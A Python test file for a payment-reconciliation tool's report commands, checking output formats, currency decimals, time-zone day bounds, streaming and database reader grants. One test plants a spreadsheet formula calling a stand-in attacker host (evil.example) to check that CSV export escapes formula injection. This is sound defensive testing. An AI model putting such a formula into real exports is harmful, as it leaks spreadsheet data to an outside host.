"""The reports on the command line: for people, programs and spreadsheets."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import subprocess
import sys
import tracemalloc
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from uuid import uuid4

import psycopg
import pytest
from click import Group
from sqlalchemy import text
from sqlalchemy.engine import make_url

from processor.cli import cli
from processor.commands import reports
from processor.commands.reports import NAMES
from processor.config import database_url as sqlalchemy_url
from processor.domain.sheet import cell
from processor.store.report_views import REPORTS
from tests.commands.running import Run, told
from tests.shop import Shop

_AMOUNT = re.compile(r"-?\d+(\.\d+)?")


def in_csv(run: Run, *arguments: object) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(run("report", *arguments, "--csv").stdout, newline="")))


def paid(shop: Shop) -> None:
    """A payment a webhook told of twice, one a poll found, in three currencies."""
    for price, currency in (("10.00", "USD"), ("1200", "JPY"), ("3.250", "KWD")):
        shop.pay(shop.link(price, currency))
    shop.deliver()
    shop.deliver()
    shop.pay(shop.link("0.99", "USD"))
    shop.pass_time()
    shop.sweep()
    shop.check()


def differing(shop: Shop) -> str:
    """A link whose total Wix shows 5 USD too low; returns the discrepancy's id."""
    link_id = shop.link()
    shop.pay(link_id)
    shop.deliver()
    shop.sandbox.faults.add({"kind": "wrong_total", "linkId": str(link_id), "by": "-5.00"})
    for _ in range(2):
        shop.request(link_id)
        shop.check()
        shop.pass_time()
    found = shop.one(
        "SELECT discrepancy_id FROM discrepancies WHERE payment_link_id = :link_id", link_id=link_id
    )
    return str(found.discrepancy_id)


def disputed(run: Run, shop: Shop) -> str:
    """One of which a write-off waits."""
    one = differing(shop)
    run("discrepancies", "write-off", one, "--reason", "fee", "--as", "ada")
    return one


def test_there_is_a_command_for_every_view() -> None:
    group = cli.commands["report"]
    assert isinstance(group, Group)

    assert set(NAMES) == set(REPORTS)
    assert {name.replace("-", "_") for name in group.commands} == set(REPORTS)
    for view, (_, has_currency) in NAMES.items():
        assert REPORTS[view].has_currency is has_currency
        options = {option for one in group.commands[view.replace("_", "-")].params for option in one.opts}
        assert ("--currency" in options) is has_currency
        assert options >= {"--instance", "--since", "--until", "--limit", "--json", "--csv"}


@pytest.mark.parametrize("view", sorted(NAMES))
def test_every_report_is_written_in_every_way_with_the_same_rows(run: Run, shop: Shop, view: str) -> None:
    empty = run("report", view.replace("_", "-"), "--instance", uuid4())
    assert empty.stdout == "nothing to report\n"
    paid(shop)
    disputed(run, shop)
    run("discrepancies", "resolve", differing(shop), "--reason", "test_data", "--as", "ada")
    shop.rows(
        """INSERT INTO silences (silence_id, instance_id, silent_since, patience_seconds, suspected_at, verdict,
            verified_at, confirmed_at, payments_found, ended_at, end_reason)
        VALUES (gen_random_uuid(), :id, :at, 7200, :at, 'silent', :at, :at, 1, :at, 'event') RETURNING 1""",
        id=shop.instance_id,
        at=shop.services.now(),
    )
    name = view.replace("_", "-")

    document = told(run("report", name, "--json"))
    again = json.loads(run("report", name, "--json").stdout, parse_float=_no_float)
    sheet = in_csv(run, name)
    people = run("report", name).stdout

    for row in (*document["rows"], *again["rows"], *sheet):
        row.pop("as_of", None)  # when it was asked for
    assert (document["report"], document["time_zone"]) == (view, "UTC")
    assert len(document["rows"]) == len(sheet) == sum(one["rows"] for one in document["totals"])
    if view != "out_of_order":
        assert sheet
    for record, line in zip(document["rows"], sheet, strict=True):
        assert list(record) == list(line)
        # An amount is text in JSON, and a number in CSV, below zero as well.
        assert [
            value if isinstance(value, str) and _AMOUNT.fullmatch(value) else cell(value)
            for value in record.values()
        ] == list(line.values())
    for word in people.splitlines()[0].split() if sheet else ():
        assert word in REPORTS[view].shown
    assert again == document


def _no_float(text: str) -> Any:
    raise AssertionError(f"{text} is a float")


def test_money_has_the_decimals_of_its_currency_everywhere(run: Run, shop: Shop) -> None:
    paid(shop)
    expected = {"0.99", "10.00", "1200", "3.250"}

    assert {line["amount"] for line in in_csv(run, "payments")} == expected
    document = told(run("report", "payments", "--json"))
    assert {line["amount"] for line in document["rows"]} == expected
    assert [(one["currency"], one["rows"], one["amount"]) for one in document["totals"]] == [
        ("JPY", 1, "1200"),
        ("KWD", 1, "3.250"),
        ("USD", 2, "10.99"),
    ]
    people = run("report", "payments").stdout
    assert "USD: 2 rows, amount 10.99\n" in people
    assert "JPY: 1 row, amount 1200\n" in people
    assert {line["fee"] for line in in_csv(run, "payments")} == {""}
    assert {line["fee"] for line in document["rows"]} == {None}
    summary = told(run("report", "reconciliation-summary", "--json"))["rows"]
    assert {line["currency"]: line["amount"] for line in summary} == {
        "JPY": "1200",
        "KWD": "3.250",
        "USD": "10.99",
    }


def test_a_report_is_narrowed_and_limited(run: Run, shop: Shop) -> None:
    paid(shop)

    assert len(in_csv(run, "payments", "--currency", "usd")) == 2
    assert in_csv(run, "payments", "--until", "2020-01-01") == []
    assert len(in_csv(run, "payments", "--since", "2020-01-01", "--limit", 3)) == 3
    assert len(in_csv(run, "payments", "--instance", shop.instance_id)) == 4
    people = run("report", "payments", "--limit", 1, "--currency", "USD").stdout
    assert "USD: 2 rows, amount 10.99" in people
    assert "Only the newest 1 are listed; --limit shows more." in people
    assert len(told(run("report", "payments", "--limit", 1, "--json"))["rows"]) == 1


def test_what_is_open_is_rolled_forward_and_registered_with_its_money(run: Run, shop: Shop) -> None:
    one = disputed(run, shop)

    [item] = in_csv(run, "open-items")
    assert (item["discrepancy_id"], item["amount_at_risk"], item["currency"]) == (one, "5.00", "USD")
    assert (item["booked"], item["wix"]) == ("10.00 USD", "5.00 USD")
    assert json.loads(item["sides"]) == {"booked": "10.00 USD", "wix": "5.00 USD", "difference": "-5.00 USD"}
    assert (item["is_write_off_waiting"], item["write_off_proposed_by"]) == ("true", "ada")
    assert "USD: 1 row, amount at risk 5.00\n" in run("report", "open-items").stdout
    assert in_csv(run, "open-items", "--until", item["aged_from"]) == []
    [day] = in_csv(run, "roll-forward")
    assert (day["opened_amount"], day["closing_amount"], day["is_explained"]) == ("5.00", "5.00", "true")
    assert len(in_csv(run, "roll-forward", "--since", day["reporting_day"], "--currency", "usd")) == 1
    assert in_csv(run, "roll-forward", "--until", day["reporting_day"]) == []
    people = run("report", "roll-forward").stdout
    assert "USD: 1 row, opened 1, opened amount 5.00, reopened 0" in people
    assert "Days are those of UTC." in people
    [off] = in_csv(run, "write-offs")
    assert (off["discrepancy_id"], off["amount"], off["status"]) == (one, "5.00", "proposed")
    assert "USD: 1 row, amount 5.00, approved amount 0.00" in run("report", "write-offs").stdout
    assert in_csv(run, "write-offs", "--until", off["proposed_at"]) == []
    run("discrepancies", "reject", one, "no", "--as", "grace")
    run("discrepancies", "resolve", one, "--reason", "corrected_at_wix", "--as", "ada")
    [resolution] = in_csv(run, "resolutions")
    assert (resolution["discrepancy_id"], resolution["resolved_by"]) == (one, "ada")
    assert "USD: 1 row, amount at risk 5.00\n" in run("report", "resolutions").stdout


def test_csv_has_its_heads_even_without_a_row(run: Run, shop: Shop) -> None:
    output = run("report", "payments", "--instance", uuid4(), "--csv").stdout

    assert output.startswith("instance_id,site_id,payment_id,")
    assert len(output.splitlines()) == 1


def test_a_rerun_gives_the_same_bytes(run: Run, shop: Shop) -> None:
    paid(shop)

    for name in ("payments", "reconciliation-summary", "control-totals"):
        assert run("report", name, "--csv").stdout_bytes == run("report", name, "--csv").stdout_bytes


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),  # where tabs divide cells, too
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-3, "-3"),
        (Decimal("-1.500"), "-1.50"),
        (Decimal("-1.505"), "-1.505"),
        (Decimal("100000000000000.000"), "100000000000000.00"),
        (date(2026, 3, 29), "2026-03-29"),
        (datetime(2026, 3, 29, 1, 2, 3, 4, tzinfo=UTC), "2026-03-29T01:02:03.000004Z"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_made_harmless_and_numbers_are_left(
    value: Any, expected: str
) -> None:
    assert cell(value, "EUR") == expected


def test_a_formula_in_what_wix_told_reaches_no_spreadsheet(run: Run, shop: Shop) -> None:
    paid(shop)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"ä,\n1")'
    with shop.services.database.begin() as connection:
        connection.execute(text("UPDATE payments SET payment_provider = :formula"), {"formula": formula})
        connection.execute(text("UPDATE payment_links SET total_amount = 99999 WHERE currency = 'USD'"))

    output = run("report", "payments", "--csv").stdout_bytes

    assert {
        line["payment_provider"] for line in csv.DictReader(io.StringIO(output.decode(), newline=""))
    } == {"'" + formula}
    assert told(run("report", "payments", "--json"))["rows"][0]["payment_provider"] == formula
    differences = {
        line["wix_less_booked_amount"] for line in in_csv(run, "control-totals", "--currency", "USD")
    }
    assert {Decimal(one) for one in differences} == {Decimal("99989.00"), Decimal("99998.01")}


def test_days_are_those_of_the_report_time_zone(
    run: Run, shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    paid(shop)
    # A quarter to midnight in UTC, and already the day of the 23 hours in Berlin.
    with shop.services.database.begin() as connection:
        connection.execute(text("UPDATE payments SET transaction_at = '2026-03-28T23:45:00Z'"))
    _set(monkeypatch, shop, report_time_zone="Europe/Berlin")

    document = told(run("report", "reconciliation-summary", "--json"))
    assert document["time_zone"] == "Europe/Berlin"
    assert {line["reporting_day"] for line in document["rows"]} == {"2026-03-29"}
    # A date without a zone is one of that zone, a time with one is what it says.
    for name in ("payments", "reconciliation-summary"):
        assert in_csv(run, name, "--since", "2026-03-29")
        assert in_csv(run, name, "--until", "2026-03-29") == []
        assert in_csv(run, name, "--since", "2026-03-28T23:00:00Z")
        assert in_csv(run, name, "--since", "2026-03-30") == []
        assert in_csv(run, name, "--until", "2026-03-30")
    assert in_csv(run, "payments", "--since", "2026-03-28T23:45:01Z") == []
    assert "Days are those of Europe/Berlin." in run("report", "payments").stdout
    assert (
        "write a date"
        in run("report", "reconciliation-summary", "--since", "2026-03-29T12:00", code=2).stderr
    )
    assert told(run("report", "completeness", "--json"))["time_zone"] == "UTC"


def _set(monkeypatch: pytest.MonkeyPatch, shop: Shop, **changes: Any) -> None:
    """Let the commands have other settings."""
    settings = dataclasses.replace(shop.services.settings, **changes)
    monkeypatch.setattr(shop, "services", dataclasses.replace(shop.services, settings=settings))


def test_one_way_of_writing_is_enough(run: Run, shop: Shop) -> None:
    assert "choose --json or --csv" in run("report", "payments", "--json", "--csv", code=2).stderr
    assert "is no time" in run("report", "payments", "--since", "soon", code=2).stderr


def _many(shop: Shop, number: int) -> None:
    with shop.services.database.begin() as connection:
        connection.execute(
            text("""
                INSERT INTO payments (instance_id, payment_id, payment_link_id, revision, amount, currency,
                    first_origin, origin, event_id, stored_at, changed_at, last_verdict, last_told_at)
                SELECT :instance_id, gen_random_uuid(), gen_random_uuid(), 1, n / 1000.0, 'EUR', 'webhook', 'webhook',
                    gen_random_uuid(), now(), now(), 'new', now()
                FROM generate_series(1, :number) n"""),
            {"instance_id": shop.instance_id, "number": number},
        )


class _Nowhere(io.RawIOBase):
    """Counts bytes and forgets them."""

    size = 0

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.size += len(data)
        return len(data)


@pytest.mark.parametrize("way", ["_write_csv", "_write_json"])
def test_a_long_report_is_written_as_it_is_read(
    shop: Shop, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    from processor.store import report_views

    def peak(number: int) -> tuple[int, int]:
        _many(shop, number)
        nowhere = _Nowhere()
        stream = io.TextIOWrapper(io.BufferedWriter(nowhere), encoding="utf-8")
        monkeypatch.setattr(sys, "stdout", stream)
        with report_views.reading(shop.services.database, "UTC") as connection:
            tracemalloc.start()
            getattr(reports, way)(connection, REPORTS["payments"], report_views.Scope(), None, "UTC")
            most = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        stream.flush()
        return most, nowhere.size

    few, small = peak(1_000)
    many, large = peak(2_000)  # more

    assert large > 2.5 * small
    assert many < 1.5 * few


def test_who_reads_only_the_beginning_is_no_fault(shop: Shop, database_url: str) -> None:
    _many(shop, 3_000)
    command = [sys.executable, "-m", "processor", "report", "payments", "--csv"]
    with subprocess.Popen(
        command,
        env={**os.environ, "DATABASE_URL": database_url},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as child:
        assert child.stdout is not None
        assert child.stderr is not None
        child.stdout.readline()
        child.stdout.close()
        assert child.stderr.read() == b""

    assert child.returncode == 0


# -- Readers ---------------------------------------------------------------------------------------


def test_the_sql_for_a_reader_is_printed_and_changes_nothing(run: Run, shop: Shop) -> None:
    printed = run("reports", "grant", "auditor", "--instance", shop.instance_id).stdout

    assert printed.startswith("BEGIN;\n")
    assert printed.endswith("COMMIT;\n")
    assert f"VALUES ('auditor', '{shop.instance_id}'::uuid);" in printed
    assert 'GRANT SELECT ON ALL TABLES IN SCHEMA report TO "auditor";' in printed
    assert "REVOKE" in run("reports", "revoke", "auditor").stdout
    assert shop.rows("SELECT * FROM report_readers") == []
    assert shop.rows("SELECT * FROM pg_roles WHERE rolname = 'auditor'") == []
    assert "keeps it for itself" in run("reports", "grant", "public", code=2).stderr


def test_a_reader_is_let_in_reads_with_our_commands_and_is_shut_out(
    run: Run, shop: Shop, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if shop.one("SHOW is_superuser").is_superuser != "on":
        pytest.skip("the test server's role may not make every role")
    paid(shop)
    role = f"auditor_{uuid4().hex}"
    said = run("reports", "grant", role, "--instance", shop.instance_id, "--apply").stdout
    assert said == f"{role} reads the reports of 1 app instance\n"
    try:
        with psycopg.connect(database_url, autocommit=True) as owner:
            owner.execute(f"ALTER ROLE {role} PASSWORD 'p'")
        url = make_url(sqlalchemy_url(database_url)).set(username=role, password="p")
        with monkeypatch.context() as patch:
            _set(patch, shop, database_url=url.render_as_string(hide_password=False))
            assert len(in_csv(run, "payments")) == 4
        run("reports", "revoke", role, "--apply")
        with monkeypatch.context() as patch:
            _set(patch, shop, database_url=url.render_as_string(hide_password=False))
            assert "processor reports grant" in run("report", "payments", code=2).stderr
    finally:
        with psycopg.connect(database_url, autocommit=True) as owner:
            owner.execute(f"DROP OWNED BY {role}")
            owner.execute(f"DROP ROLE {role}")


def test_what_postgresql_refuses_is_one_sentence(run: Run, shop: Shop) -> None:
    assert "does not exist" in run("reports", "revoke", f"nobody_{uuid4().hex}", "--apply", code=2).stderr


@pytest.mark.parametrize(
    ("view", "zone", "day", "bound"),
    [
        ("missed_webhooks", "Europe/Berlin", (2026, 3, 29), datetime(2026, 3, 28, 23, tzinfo=UTC)),
        # In Cairo the clock went from 24:00 to 01:00.
        ("payments", "Africa/Cairo", (2026, 4, 24), datetime(2026, 4, 23, 22, tzinfo=UTC)),
        # And from 24:00 back to 23:00: the day before is the one with 25 hours.
        ("payments", "Africa/Cairo", (2026, 10, 30), datetime(2026, 10, 29, 22, tzinfo=UTC)),
        ("reconciliation_summary", "Africa/Cairo", (2026, 4, 24), date(2026, 4, 24)),
        ("completeness", "Africa/Cairo", (2026, 4, 24), date(2026, 4, 24)),
    ],
)
def test_a_date_bounds_where_its_day_begins(
    view: str, zone: str, day: tuple[int, int, int], bound: datetime | date
) -> None:
    assert reports._bound(datetime(*day), REPORTS[view], zone, "--since") == bound  # noqa: DTZ001
